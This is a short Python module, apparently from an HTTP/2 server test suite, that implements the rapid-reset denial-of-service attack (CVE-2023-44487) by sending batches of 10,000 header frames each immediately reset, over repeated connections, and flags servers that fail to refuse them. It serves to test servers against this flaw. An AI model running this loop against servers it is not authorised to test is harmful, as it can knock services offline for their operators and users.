"""Calls that are reset at once (CVE-2023-44487): 10,000 on a connection, again and again."""

import http2
from attacker import ENHANCE_YOUR_CALM, error_of, frame, receive_until_end, reset, send

CALLS = 10_000


def attack(attacker):
    frames = b"".join(
        frame(http2.HEADERS, http2.END_HEADERS, stream, attacker.head()) + reset(stream)
        for stream in range(1, 2 * CALLS, 2))
    while not attacker.over():
        connection = attacker.http2()
        send(connection, frames)
        if error_of(receive_until_end(connection)) != ENHANCE_YOUR_CALM:
            return [f"{CALLS} calls that are reset at once are not refused"]
